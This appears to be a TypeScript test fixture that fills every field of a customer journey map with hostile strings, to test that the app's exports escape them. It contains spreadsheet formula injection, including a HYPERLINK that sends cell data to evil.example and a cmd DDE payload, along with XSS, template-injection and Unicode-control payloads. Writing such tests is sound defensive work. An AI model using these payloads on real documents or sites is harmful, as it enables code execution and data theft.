import { type JourneyMap, journeyMapSchema } from '../../../src/domain/journey-map.ts';
import { evidence, fullMap, statement, withStage } from '../typst/sample-maps.ts';

/** Texts that would be more than text in some format, were they ever read as it. */
export const hostileTexts = [
  '=HYPERLINK("http://evil.example/?"&A1;"click")',
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1;1)',
  '\t=1+1',
  '<script>window.hacked = 1</script>',
  '<img src=x onerror="window.hacked=1">',
  '"><svg onload=window.hacked=1>',
  '</style><script>window.hacked=1</script>',
  '[click](javascript:window.hacked=1) ![x](http://evil.example/x.png)',
  '| a | b |\n| --- | --- |\n# Heading',
  '1. one\n- two\n> three\n```\ncode',
  '`code` **bold** _it_ ~~no~~ <b>b</b> &amp; &lt;',
  '@octocat #123 http://evil.example www.evil.example mail@evil.example evil.example/x',
  '{{ site.secret }} $x^2$ {% raw %}',
  'section evil: 5: Me; title Gone',
  '# comment ; %% {init: {"theme":"forest"}} %%{init}%%',
  'a; b: c # d',
  'right \u202eto left\u202c \u2066isolate\u2069 \u200fmark',
  'bell\u0007 null\u0000 esc\u001b[31m \u0085next\u2028line',
  'half \ud83d pair \ufffe',
  'x]]>y -->z <!-- c',
  '\u0024{process.exit(1)} \\n \\u0000 %s',
  '\u200fانتظرت يومين مكالمة المدير',
  'end with backslash \\',
];

/** A map that has each of them wherever a person or a model can have a say. */
export function hostileMap(): JourneyMap {
  const map = fullMap('en', 3);
  const [first = ''] = hostileTexts;
  const say = (n: number) => hostileTexts[n % hostileTexts.length] ?? first;
  const stages = hostileTexts.slice(0, 3).map((_, at) => ({
    ...withStage(map, at, (stage) => ({
      ...stage,
      name: say(at * 5 + 15),
      about: say(at + 5),
      lanes: {
        ...stage.lanes,
        barriers: hostileTexts.map((text, n) =>
          statement(`b${at}${n}`, text, { customers: 2, staff: 1 }, [
            { ...evidence(text, n + 1, 'en'), translation: say(n + 1) },
            evidence(text, 3, 'x"><script>', 'staff'),
          ]),
        ),
      },
      metrics: hostileTexts.map((text, n) => ({
        id: `x${n}`,
        name: text,
        value: 3,
        unit: say(n + 1),
        n: 2,
        period: say(n + 2),
        source: say(n + 3),
        touchpoint: say(n + 4),
      })),
    })).stages[at],
  }));
  return journeyMapSchema.parse({
    ...map,
    study: { ...map.study, title: say(15), goal: say(16), focus: say(6) },
    persona: { name: say(5), traits: [{ trait: say(6), value: say(0), respondents: 1, asked: 2 }] },
    stages,
    recommendations: hostileTexts.map((text, n) => ({
      id: `r${n}`,
      stage: n === 0 ? 'nowhere' : `stage-${(n % 3) + 1}`,
      text,
      answers: [`b0${n}`],
      impact: 5,
      effort: 1,
      quickWin: true,
      origin: 'customer',
      owner: say(n + 2),
      status: 'accepted',
      votes: 1,
      evidence: [evidence(text, 2, 'en')],
    })),
    hypotheses: hostileTexts.map((text, n) => ({ stage: n % 2 === 0 ? 'stage-1' : null, text })),
    notCovered: [{ stage: 'stage-1', answers: 1, reason: say(5) }],
  });
}
